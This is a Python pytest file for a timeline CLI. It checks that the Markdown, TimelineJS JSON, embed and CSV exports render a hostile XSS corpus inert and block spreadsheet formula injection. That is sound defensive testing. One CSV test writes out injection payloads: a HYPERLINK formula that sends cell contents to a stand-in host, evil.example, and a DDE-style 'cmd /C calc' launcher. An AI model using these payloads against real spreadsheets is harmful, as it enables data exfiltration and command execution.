"""The XSS corpus (tests/roots/hostile-xss) through every other output: Markdown rendered by a
CommonMark renderer, TimelineJS JSON (whose text fields TimelineJS renders as HTML), the --embed
snippet, and CSV opened in a spreadsheet (formula injection).
"""
from __future__ import annotations

import csv
import html.parser
import io
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from click.testing import CliRunner

from timeline.cli import cli

ROOT = Path(__file__).parent / "roots" / "hostile-xss"
STORE = str(ROOT / "events.yaml")
SAFE_TAGS = {"p", "ol", "ul", "li", "em", "strong", "blockquote", "cite", "br", "span", "a", "h1", "h2", "h3", "h4", "hr", "sup", "small"}


class Tags(html.parser.HTMLParser):
    """Every start tag with its attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def tags_of(markup: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = Tags()
    parser.feed(markup)
    parser.close()
    return parser.found


def assert_inert(markup: str, where: str) -> None:
    for tag, attrs in tags_of(markup):
        assert tag in SAFE_TAGS, f"{where}: <{tag}> {attrs}"
        for name, value in attrs:
            assert not name.startswith("on"), f"{where}: <{tag} {name}>"
            if name in ("href", "src"):
                assert (value or "").startswith(("https://", "http://", "HTTPS://", "#")), f"{where}: {name}={value!r}"
            assert name in ("class", "href", "title", "id", "rel", "target", "lang", "dir"), f"{where}: <{tag} {name}={value!r}>"


def run(*args: str) -> Any:
    result = CliRunner().invoke(cli, list(args), prog_name="timeline")
    assert result.exit_code == 0, result.output
    return result


def test_markdown_renders_inert() -> None:
    MarkdownIt = pytest.importorskip("markdown_it").MarkdownIt  # markdown-it-py, a test extra

    text = run("export", "markdown", STORE, "-q").stdout
    rendered = MarkdownIt("commonmark").render(text)  # raw HTML passes through CommonMark: it must be escaped
    assert_inert(rendered, "markdown")
    assert "window.__pwned" in rendered, "the payloads are shown as text"


def test_timelinejs_text_fields_are_inert() -> None:
    data = json.loads(run("export", "timelinejs", STORE, "-q").stdout)
    slides = [data["title"], *data["events"], *data.get("eras", [])]
    checked = 0
    for slide in slides:
        for key in ("headline", "text"):
            value = (slide.get("text") or {}).get(key)
            if value:
                assert_inert(value, f"timelinejs {slide.get('unique_id')} {key}")
                checked += 1
        if slide.get("group"):
            assert not tags_of(slide["group"]), slide["group"]
    assert checked >= 80


def test_embed_snippet_is_one_iframe() -> None:
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        snippet = run("build", STORE, "-o", folder, "--embed").stdout
    found = tags_of(snippet)
    assert [tag for tag, _ in found] == ["iframe"], found
    attrs = dict(found[0][1])
    assert attrs["src"] == "timeline.html?embed=1" and attrs["title"].startswith("XSS corpus <script>")
    assert not any(name.startswith("on") for name in attrs)


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_csv_cells_cannot_be_formulas(tmp_path: Path) -> None:
    root = tmp_path / "store"
    shutil.copytree(ROOT.parent / "hostile-yaml", root)
    store = root / "events.yaml"
    text = store.read_text(encoding="utf-8")
    store.write_text(text.replace("    summary: Tajikistan offered an amnesty.",
                                  "    summary: '=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")'\n"
                                  "    note: \"@SUM(1+1)*cmd|' /C calc'!A0\"\n    actors: ['+1+1', '-2+3']"), encoding="utf-8")
    exported = run("export", "csv", str(store), "-q").stdout
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)], [c for c in cells if c.startswith(FORMULA_START)]
    (tmp_path / "events.csv").write_text(exported, encoding="utf-8")
    before = store.read_bytes()
    run("import", "csv", str(tmp_path / "events.csv"), "--into", str(store))
    assert store.read_bytes() == before, "the protected cells import back to the editor's exact text"


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab ;"), max_size=8) | st.text(max_size=20))
def test_csv_guard_is_exactly_reversible(text: str) -> None:
    from timeline.spreadsheet import FORMULA_START as STARTS, guard, unguard

    assert unguard(guard(text)) == text
    assert not guard(text).startswith(STARTS)
